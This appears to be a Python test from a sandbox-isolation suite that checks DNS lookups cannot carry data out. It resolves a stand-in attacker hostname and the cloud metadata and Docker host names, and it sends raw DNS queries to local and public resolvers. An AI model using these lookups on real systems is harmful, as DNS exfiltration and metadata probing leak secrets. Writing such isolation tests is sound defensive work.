"""Asks for names, to carry data out in the questions.

group: network
claim: No resolver is reached.
"""
import socket
from kit import T, attempt, reaches

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x07invalid\x00\x00\x01\x00\x01"
for name in ("example.com", "secret.attacker.invalid", "host.docker.internal", "metadata.google.internal"):
    attempt(name, socket.getaddrinfo, name, 80)
for server in ("127.0.0.11", "127.0.0.53", "8.8.8.8", T["ip"], "10.0.2.3"):
    attempt(server, reaches, (server, 53), socket.AF_INET, socket.SOCK_DGRAM, QUESTION)
